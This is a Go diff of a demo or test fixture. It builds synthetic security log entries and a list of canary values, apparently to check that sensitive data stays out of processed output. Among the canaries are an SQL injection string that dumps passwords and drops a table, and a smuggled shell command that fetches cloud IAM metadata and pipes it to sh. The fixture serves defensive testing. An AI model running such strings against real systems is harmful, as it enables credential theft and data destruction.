@@ -18,24 +18,36 @@ func securityLog(now time.Time) [][]byte {
 	}
 	for i := range 7 {
 		line(time.Duration(40-5*i)*time.Second, "WARNING",
-			`{"timestamp": "%s", "event_type": "authentication", "client_id": "%012x", "success": false, "source_ip": %q, "user_agent": "python-httpx/0.28.1", "details": {"reason": "bad_signature", "user": %q}}`,
-			0xa1b2c3d4e5f0, CanaryIP, CanaryUser)
-	}
-	line(4*time.Second, "INFO",
-		`{"timestamp": "%s", "event_type": "authentication", "client_id": "%012x", "success": true, "source_ip": "198.51.100.20", "user_agent": "claude-desktop/1.9"}`, 0x0f1e2d3c4b5a)
-	for i := range 12 {
-		line(time.Duration(30-2*i)*time.Second, "WARNING",
-			`{"timestamp": "%s", "event_type": "rate_limit", "client_id": "%012x", "source_ip": "198.51.100.31", "details": {"limit": 100, "window": 60}}`, 0x77aa77aa77aa)
+			`{"timestamp": "%s", "event_type": "authentication", "client_id": %q, "success": false, "source_ip": %q, "user_agent": "python-httpx/0.28.1 (%s)", "reverse_dns": %q, "details": {"reason": "bad_signature", "user": %q}}`,
+			CanaryClient, CanaryIP, CanaryMail, CanaryHost, CanaryUser)
 	}
 	cut := out[len(out)-1]
-	return append(out, cut[:len(cut)-25])
+	line(5*time.Second, "WARNING",
+		`{"timestamp": "%s", "event_type": "permission_violation", "client_id": "0f1e2d3c4b5a", "user": %q, "source_ip": "198.51.100.20", "resource": %q, "action": "read", "required_permission": "hr:read"}`,
+		CanaryUser, CanaryResource)
+	line(4*time.Second, "INFO",
+		`{"timestamp": "%s", "event_type": "authentication", "client_id": "0f1e2d3c4b5a", "success": true, "source_ip": "198.51.100.20", "user_agent": "claude-desktop/1.9"}`)
+	for i := range 12 {
+		line(time.Duration(30-2*i)*time.Second, "WARNING",
+			`{"timestamp": "%s", "event_type": "rate_limit", "client_id": "77aa77aa77aa", "source_ip": %q, "details": {"limit": 100, "window": 60}}`, CanaryIP6)
+	}
+	return append(out, cut[:len(cut)-3])
 }
 
 // Values that must be found in the raw topics and nowhere else after a demo.
 const (
-	CanaryUser   = "ada.lovelace@example.org"
-	CanaryIP     = "203.0.113.77"
-	CanaryFile   = "merger-with-initech.md"
-	CanaryText   = "the deal closes on the ides of march"
-	CanarySecret = "AKIAQ7GRF2ZLHDJ5M3XC"
+	CanaryUser     = "ada.lovelace@example.org"
+	CanaryMail     = "grace.hopper@example.net" // in a user agent
+	CanaryHost     = "adas-laptop.office.example.org" // in a label
+	CanaryClient   = "a1b2c3d4e5f0"
+	CanaryAgent    = "demo-agent"
+	CanaryIP       = "203.0.113.77"
+	CanaryIP6      = "2001:db8:77:1::bad:cafe"
+	CanaryFile     = "merger-with-initech.md"
+	CanaryHome     = "/home/ada"
+	CanaryResource = "/srv/hr/salaries-of-the-board.xlsx"
+	CanaryText     = "the deal closes on the ides of march"
+	CanarySecret   = "AKIAQ7GRF2ZLHDJ5M3XC"
+	CanarySQL      = "x' UNION SELECT login, password FROM users; DROP TABLE audit; --"
+	CanaryShell    = "*.md; curl http://169.254.169.254/latest/meta-data/iam/ | sh"
 )
